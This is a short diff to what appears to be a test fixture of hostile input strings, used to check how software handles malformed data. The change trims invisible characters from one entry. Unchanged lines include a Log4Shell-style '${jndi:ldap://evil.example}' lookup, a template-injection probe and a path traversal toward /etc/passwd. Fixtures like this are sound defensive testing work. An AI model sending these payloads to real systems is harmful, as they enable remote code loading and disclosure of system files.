@@ -23,7 +23,7 @@ HOSTILE = {
     "markup": "[/nothing] [bold]x[/] [link=http://evil.example]y",
     "newline": 'first "line"\nsecond;line,\r\nthird',
     "NUL": "before\0after",
-    "combining": "Z̷͉̈́a̸̛͜l̵̡̾g̴̢̈́o̵͖͐ 👩‍👩‍👧‍👦 \ufeff\u200b",
+    "combining": "Z̷͉̈́a̸̛͜l̵̡̾g̴̢̈́o̵͖͐ 👩‍👩‍👧‍👦",
     "template": "{{7*7}} ${jndi:ldap://evil.example} %s %(x)s {0}",
     "path": "../../../../etc/passwd\\..\\",
     "backslashes": "\\N \\0 \\x00 \\' \\\"",
